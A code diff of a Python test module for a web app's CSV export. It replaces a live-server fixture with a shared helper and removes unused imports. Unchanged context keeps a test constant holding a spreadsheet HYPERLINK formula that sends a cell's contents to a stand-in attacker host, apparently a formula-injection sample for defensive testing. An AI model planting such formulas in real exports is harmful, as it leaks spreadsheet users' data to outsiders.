@@ -7,13 +7,12 @@ from __future__ import annotations
 import csv
 import io
 import secrets
-from collections.abc import Iterator
 
 import httpx
 import pytest
 
-from tests.support.database import PgServer
-from tests.support.server import LiveServer, live_server
+from tests.support import staff
+from tests.support.server import LiveServer
 
 PASSWORD = "Consola123"
 POOL_MAX = 8  # tests/support/server.py: the app's pool in every test server
@@ -21,17 +20,7 @@ HYPERLINK = '=HYPERLINK("http://atacante.example/?d="&A1;"Clique aqui")'
 _base = iter(range(secrets.randbelow(1000) * 40_000, 10**8, 30_000))
 
 
-@pytest.fixture(scope="module")
-def web(
-    pg_server: PgServer, template_db: str, tmp_path_factory: pytest.TempPathFactory
-) -> Iterator[LiveServer]:
-    with live_server(
-        pg_server,
-        template_db,
-        tmp_path_factory.mktemp("web_export"),
-        settings={"rate_limit_per_minute": "0"},
-    ) as server:
-        yield server
+web = staff.web  # the module's server (tests/support/staff.py)
 
 
 def client(web: LiveServer) -> httpx.Client:
